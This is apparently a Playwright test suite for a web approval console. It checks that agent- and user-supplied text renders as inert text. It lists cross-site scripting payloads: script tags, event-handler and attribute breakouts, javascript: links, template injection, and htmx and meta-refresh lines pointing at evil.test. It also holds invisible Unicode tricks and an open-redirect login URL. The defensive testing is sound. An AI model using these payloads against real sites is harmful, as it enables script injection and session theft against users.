"""Law: whatever an agent or a person writes is text on every page: nothing runs, nothing loads, nothing hides.

Each window notes dialogs, errors, reports of its content security policy and requests elsewhere, and is asked at its end
whether a script has run.
"""

import json
import re
from typing import Final
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from tests.browser.agents import Agents
from tests.browser.answering import deny, open_question, row
from tests.browser.conftest import Windows
from tests.browser.windows import DESKTOP, PHONE, Window, scrolls_sideways

RUN: Final = "window.__pwned=alert(1)||1"
ATTACKS: Final = {
    "script": f"<script>{RUN}</script>",
    "image": f'<img src=x onerror="{RUN}">',
    "vector": f"<svg onload='{RUN}'><animate onbegin='{RUN}' attributeName=x dur=1s>",
    "attribute": f'" autofocus onfocus="{RUN}" x="',
    "single": f"' onmouseover='{RUN}' x='",
    "end": f"</textarea></title></style></script></li><script>{RUN}</script>",
    "link": f'<a href="javascript:{RUN}">press</a>',
    "template": "{{ 7*7 }}{% for x in [1] %}{{ config }}{% endfor %}${7*7}",
    "htmx": '<div hx-get="https://evil.test/" hx-trigger="load" hx-on:load="window.__pwned=1">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.test/x.css>",
}
UNSEEN: Final = "\u202e\u2066\u200b\x1b"
"""What turns, hides or colours writing."""


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_markup_is_text(window: Window, agents: Agents, customer: int, attack: str) -> None:
    """In path, query, body, message, agent's name and reason; in the inbox, on the page, in the bytes, in the history."""
    page = window.page
    path = f"/notes/{customer}/{quote(re.sub('[/;]', '', attack), safe='')}"  # with these it would be refused
    page.goto("/")
    waiting = agents.send(f"{path}?q={quote(attack, safe='')}", {"title": attack, attack: "key"}, subject=attack)
    line = row(page, str(customer))
    expect(line.locator(".by")).to_have_text(attack if len(attack) <= 80 else re.compile(re.escape(attack[:80])))
    line.get_by_role("link").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text(attack[:40])
    expect(page.locator(".text")).to_contain_text(json.dumps(attack, ensure_ascii=False)[1:-1])
    expect(page.locator(".note")).to_contain_text(attack)
    _nothing_was_made(page, attack)
    page.get_by_role("button", name="Show the bytes").click()
    expect(page.locator("#revealed")).to_contain_text(json.dumps(attack, ensure_ascii=False)[1:-1])
    _nothing_was_made(page, attack)
    deny(page, str(customer), attack)
    assert attack in waiting.answer().json["detail"]
    page.get_by_role("link", name="Show it").click()
    expect(page.locator(".steps")).to_contain_text(attack)
    _nothing_was_made(page, attack)
    page.goto("/approvals")
    expect(page.locator("main li").filter(has_text=str(customer))).to_contain_text(attack[:40])
    _nothing_was_made(page, attack)


def test_what_cannot_be_seen_is_shown(window: Window, agents: Agents, customer: int) -> None:
    """Characters that turn, hide or colour writing stand as code points."""
    page, text = window.page, f"safe{'x'.join(UNSEEN)}end"
    agents.send(f"/notes/{customer}/{quote(text.replace(UNSEEN[-1], ''), safe='')}", {"title": text})
    open_question(page, str(customer))
    expect(page.locator(".note")).to_contain_text("safe<U+202E>x<U+2066>x<U+200B>x<U+001B>end", use_inner_text=True)
    expect(page.locator(".note")).to_contain_text(f"/notes/{customer}/safe<U+202E>x<U+2066>x<U+200B>xend")
    shown = page.content()
    assert not [character for character in UNSEEN if character in shown]


def test_a_forged_code_point_is_told_apart(window: Window, agents: Agents, customer: int) -> None:
    """Somebody who writes ``<U+202E>`` is not shown as somebody who turns the writing."""
    agents.send(f"/notes/{customer}", {"title": "a <U+202E> b"})
    open_question(window.page, str(customer))
    expect(window.page.locator(".note")).to_contain_text("a <U+003C>U+202E> b")


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_long_words_break(windows: Windows, agents: Agents, customer: int, size: dict[str, int]) -> None:
    """Neither a long path nor a long line nor many marks on one letter push anything out of the page."""
    page = windows(viewport=size).page
    long = "W" * 3000
    agents.send(f"/notes/{customer}/{long}", {"title": f"{long} e{chr(0x301) * 500}"}, subject="n" * 200)
    page.goto("/")
    row(page, str(customer))
    assert not scrolls_sideways(page)
    open_question(page, str(customer))
    assert not scrolls_sideways(page)
    expect(page.get_by_role("button", name="Approve")).to_be_visible()


def test_query_values_of_the_console_are_text(window: Window) -> None:
    """Somebody who sends a link to a person gains nothing."""
    page = window.page
    window.foresee("status of 40[04]")
    for place in ("/?answered={}", "/approvals?state={}", "/approvals?before={}", "/approvals/{}", "/{}"):
        page.goto(place.format(quote(ATTACKS["end"], safe="")))
        _nothing_was_made(page, ATTACKS["end"])
        expect(page.locator("main")).to_be_visible()


def test_the_sign_in_shows_no_name(windows: Windows) -> None:
    """What was typed is not on the page that refuses it."""
    window = windows(None)
    window.foresee("status of 401")
    page = window.page
    page.goto(f"/login?next={quote('//evil.test/' + ATTACKS['attribute'], safe='')}")
    page.get_by_label("Name").fill(ATTACKS["attribute"])
    page.get_by_label("Password").fill(ATTACKS["script"])
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_be_visible()
    assert "evil.test" not in page.content()
    assert re.search(r"__pwned", page.content()) is None


def _nothing_was_made(page: Page, attack: str) -> None:
    """No element or attribute of the page comes from the text; the page is the console's own, and whole."""
    made = page.evaluate("""() => ({
        scripts: document.querySelectorAll('script:not([src^="/static/"]), iframe, object, embed, base, style').length,
        handlers: [...document.querySelectorAll('*')].filter((each) =>
            [...each.attributes].some((it) => it.name.startsWith('on') || it.name.startsWith('hx-on'))).length,
        links: [...document.querySelectorAll('[href], [src], [action], [hx-get]')].filter((each) =>
            ['href', 'src', 'action', 'hx-get'].some((name) => each.hasAttribute(name)
                && new URL(each.getAttribute(name), location).origin !== location.origin)).length,
    })""")
    assert made == {"scripts": 0, "handlers": 0, "links": 0}, attack
